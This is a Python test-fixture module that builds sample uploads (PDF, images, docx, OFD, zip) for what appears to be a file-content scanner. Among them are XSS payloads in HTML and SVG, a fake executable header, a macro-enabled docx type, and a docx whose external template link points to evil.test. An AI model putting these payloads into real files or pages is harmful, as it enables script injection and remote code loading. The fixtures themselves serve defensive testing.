"""Contents of files: as people hand them in, and as attackers do."""

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping

PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + bytes(64)
JPEG = b"\xff\xd8\xff\xe0" + bytes(64) + b"\xff\xd9"
HTML = b"<!DOCTYPE html><script>alert(1)</script>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
PROGRAM = b"MZ\x90\x00" + bytes(60)
TYPES = b'<Types><Override ContentType="application/vnd.openxmlformats-officedocument.main+xml"/></Types>'
MACRO_TYPES = (
    b'<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
)


def png(width: int, height: int) -> bytes:
    return b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + struct.pack(">II", width, height) + bytes(64)


def jpeg(width: int, height: int) -> bytes:
    head = b"\xff\xd8\xff\xe0\0\x10JFIF\0" + bytes(9) + b"\xff\xc2\0\x11\x08"
    return head + struct.pack(">HH", height, width) + bytes(64)


def webp(width: int, height: int) -> bytes:
    sides = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    return b"RIFF\0\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0" + sides + bytes(64)


def package(parts: Mapping[str, bytes], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as file:
        for name, content in parts.items():
            file.writestr(name, content)
    return out.getvalue()


def docx(**parts: bytes) -> bytes:
    named = {name.replace("__", "/").replace("_dot_", "."): content for name, content in parts.items()}
    return package({"[Content_Types].xml": TYPES, "word/document.xml": b"<w:document/>", **named})


def linked(kind: str, *, encoding: str = "utf-8") -> bytes:
    """Return a docx that names something elsewhere."""
    text = (
        f'<?xml version="1.0" encoding="{encoding}"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        'Target="http://evil.test/a.dotm" TargetMode="External"/></Relationships>'
    )
    return docx(word___rels__settings_dot_xml_dot_rels=text.encode(encoding))


def ofd() -> bytes:
    return package({"OFD.xml": b"<ofd:OFD/>", "Doc_0/Document.xml": b"<ofd:Document/>"})


def encrypted_package() -> bytes:
    """Return a docx whose first part says that it is encrypted."""
    content = bytearray(docx())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        content[content.index(mark) + place] |= 1
    return bytes(content)


def pdf_with(objects: bytes) -> bytes:
    return PDF + b"\n3 0 obj\n" + objects + b"\nendobj\n"


def pdf_with_packed(text: bytes) -> bytes:
    """Return a PDF that keeps an object in a compressed stream of objects."""
    packed = zlib.compress(text)
    return pdf_with(b"<< /Type /ObjStm /Filter /FlateDecode >>\nstream\r\n" + packed + b"\r\nendstream")
